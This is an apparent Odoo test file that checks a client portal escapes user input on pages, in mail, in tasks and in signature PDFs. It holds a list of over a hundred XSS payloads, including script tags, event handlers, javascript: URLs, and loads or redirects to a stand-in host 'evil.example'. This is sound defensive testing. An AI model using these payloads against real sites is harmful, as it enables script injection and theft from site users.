import html

from lxml import html as lxml_html

from odoo.tests import tagged

from .portal_common import SIGNATURE, PortalCase

HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video")
PAYLOADS = (
    [f"<{tag} {handler}=alert(1)>" for tag in TAGS for handler in HANDLERS]
    + [f'"><{tag} {handler}=alert(1)>' for tag in TAGS for handler in HANDLERS]
    + [
        "<script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<ScRiPt src=//evil.example></ScRiPt>",
        "' onfocus='alert(1)' autofocus='",
        '" onfocus="alert(1)" autofocus="',
        "javascript:alert(1)",
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object>",
        "<embed src='javascript:alert(1)'>",
        "<form action='javascript:alert(1)'><button>x</button></form>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style>@import '//evil.example';</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "{{ 7 * 7 }}<t t-out='7 * 7'/>",
        "<t t-call='web.login'/>",
        "]]><script>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u2028<script>alert(1)</script>",
        "\x00<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<marquee onstart=alert(1)>",
    ]
)


@tagged("post_install", "-at_install")
class TestPortalScript(PortalCase):
    """Whatever a client types: it is text, on his page, at ours, in mails and PDFs."""

    def assertDead(self, text, quiet):
        """The HTML holds no more of what acts than when harmless words were typed."""
        self.assertEqual(self._count_acting(text), quiet)

    def _count_acting(self, text):
        root = lxml_html.fromstring(text)
        nodes = [node for node in root.iter() if isinstance(node.tag, str)]
        return (
            len(root.xpath("//script|//iframe|//object|//embed|//base|//form|//style")),
            len([n for n in nodes for name in n.attrib if name.startswith("on")]),
            len([n for n in nodes if "javascript:" in (n.get("href") or "")]),
            len([n for n in nodes if n.tag in ("marquee", "video", "math", "input")]),
        )

    def test_there_are_a_hundred_of_them(self):
        self.assertGreaterEqual(len(PAYLOADS), 100)

    def test_page_shows_an_answer_as_text(self):
        papers = [self._send_paper() for _number in range(2)]
        self._post(papers[0], "reject", name="Olena", reason="Too dear")
        quiet = self._count_acting(self._open(papers[0]).text)
        evidence = papers[0].evidence_ids
        for payload in PAYLOADS:
            with self.subTest(payload):
                clean = papers[0]._clean_text(payload, 5000)
                evidence.write({"signer": clean, "comment": clean})
                papers[0].write({"answer": clean})
                self.assertDead(self._open(papers[0]).text, quiet)

    def test_page_gives_back_what_was_typed_as_text(self):
        paper = self._send_paper()
        quiet = self._count_acting(
            self._post(paper, "accept", name=" ", comment="x").text
        )
        for payload in PAYLOADS:
            with self.subTest(payload):
                answer = self._post(paper, "accept", name=" ", comment=payload)
                self.assertEqual(answer.status_code, 422)
                self.assertDead(answer.text, quiet)

    def test_chatter_mail_and_task_show_an_answer_as_text(self):
        paper = self._send_paper()
        every = "\n".join(PAYLOADS)
        self._post(paper, "reject", name=PAYLOADS[0], reason=every)
        self.assertEqual(paper.state, "rejected")
        bodies = (
            self.env["mail.message"]
            .search([("model", "in", (paper._name, "crm.lead"))])
            .mapped("body")
        )
        tasks = self.env["crm.process.task"].search([("name", "ilike", "to change")])
        for text in [*bodies, *tasks.mapped("instruction")]:
            for payload in ("<script", "<img", "<iframe", "<svg"):
                self.assertNotIn(payload, text or "")
        self.assertIn(html.escape("<script>alert(1)</script>"), " ".join(bodies))

    def test_page_of_the_signature_shows_names_as_text(self):
        paper = self._send_paper("contract")
        for payload in PAYLOADS[:5]:
            with self.subTest(payload):
                evidence = paper.evidence_ids.create(
                    {
                        "document_id": paper.id,
                        "kind": "signed",
                        "side": "client",
                        "signer": payload,
                        "signature": SIGNATURE,
                    }
                )
                self.assertTrue(
                    paper._print_signature_page(evidence).startswith(b"%PDF")
                )

    def test_message_in_the_address_is_not_shown(self):
        paper = self._send_paper()
        url = f"{self._url(paper)}&message=<script>alert(1)</script>"
        page = self._keep(lambda: self.url_open(url))
        self.assertNotIn("alert(1)", page.text)
